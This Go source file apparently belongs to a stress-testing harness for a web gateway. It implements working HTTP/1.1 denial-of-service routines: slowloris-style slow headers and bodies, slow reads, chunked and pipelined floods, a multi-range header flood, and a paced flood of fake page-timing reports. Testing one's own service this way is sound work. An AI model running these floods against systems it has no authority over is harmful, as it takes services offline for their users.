package main

import (
	"fmt"
	"io"
	"strings"
	"time"
)

func (a *assault) head(method, path string, fields ...string) string {
	return method + " " + path + " HTTP/1.1\r\nHost: " + a.to.name + "\r\n" + strings.Join(fields, "")
}

// trickleH1 sends a beginning and then one piece every 200 ms.
func (a *assault) trickleH1(begin, drop string) error {
	c, err := a.dialTLS("http/1.1")
	if err != nil {
		return err
	}
	defer c.Close()
	if _, err := io.WriteString(c, begin); err != nil {
		return err
	}
	a.units.Add(1)
	for a.wait(200 * time.Millisecond) {
		if _, err := io.WriteString(c, drop); err != nil {
			return err
		}
		a.units.Add(1)
	}
	return nil
}

func h1SlowHead(a *assault) error { return a.trickleH1("GET /1k HTTP/1.1\r\nX-Slow: ", "a") }

func h1SlowBody(a *assault) error {
	return a.trickleH1(a.head("POST", small, "Content-Length: 1000000\r\n\r\n"), "a")
}

func h1SlowRead(a *assault) error {
	c, err := a.dialTLS("http/1.1")
	if err != nil {
		return err
	}
	defer c.Close()
	if _, err := io.WriteString(c, strings.Repeat(a.head("GET", large, "\r\n"), 10)); err != nil {
		return err
	}
	return a.sip(c)
}

// floodH1 repeats one piece of text until a write fails or the assault ends. It reads and drops all responses.
func (a *assault) floodH1(begin, piece string) error {
	return a.repeatH1(begin, piece, max(1, batch/len(piece)), 0)
}

// repeatH1 writes count pieces at once, then waits for the pause, until a write fails or the assault ends.
func (a *assault) repeatH1(begin, piece string, count int, pause time.Duration) error {
	c, err := a.dialTLS("http/1.1")
	if err != nil {
		return err
	}
	defer c.Close()
	go func() {
		_, _ = io.Copy(io.Discard, c)
		c.Close()
	}()
	if _, err := io.WriteString(c, begin); err != nil {
		return err
	}
	pieces := []byte(strings.Repeat(piece, count))
	next := time.Now()
	for a.ctx.Err() == nil {
		if _, err := c.Write(pieces); err != nil {
			return err
		}
		a.units.Add(int64(count))
		next = next.Add(pause)
		time.Sleep(time.Until(next))
	}
	return nil
}

func h1TinyChunks(a *assault) error {
	return a.floodH1(a.head("POST", small, "Transfer-Encoding: chunked\r\n\r\n"), "1\r\na\r\n")
}

func h1Pipeline(a *assault) error { return a.floodH1("", a.head("GET", small, "\r\n")) }

func h1Ranges(a *assault) error {
	ranges := make([]string, 400)
	for i := range ranges {
		ranges[i] = fmt.Sprintf("%d-", i)
	}
	return a.floodH1("", a.head("GET", "/files/1k.txt", "Range: bytes=", strings.Join(ranges, ","), "\r\n\r\n"))
}

func h1Reports(a *assault) error { return a.floodH1("", a.report()) }

// h1ReportsPaced sends 10,000 reports a second over all connections.
func h1ReportsPaced(a *assault) error {
	const atOnce = 5
	return a.repeatH1("", a.report(), atOnce, flood*atOnce*time.Second/10_000)
}

// report returns what the script for page timings sends. The view id has the right length, so the gateway must check its seal.
func (a *assault) report() string {
	body := `{"view":"` + strings.Repeat("A", 240) + `","part":1,"loaded":true,"times":{"ttfb":80,"load":200}}`
	return a.head("POST", reports, "Sec-Fetch-Site: same-origin\r\nContent-Type: application/json\r\n",
		fmt.Sprintf("Content-Length: %d\r\n\r\n", len(body)), body)
}

func h1Expect(a *assault) error {
	c, err := a.dialTLS("http/1.1")
	if err != nil {
		return err
	}
	defer c.Close()
	if _, err := io.WriteString(c, a.head("POST", small, "Content-Length: 1000\r\nExpect: 100-continue\r\n\r\n")); err != nil {
		return err
	}
	a.units.Add(1)
	return a.sip(c)
}
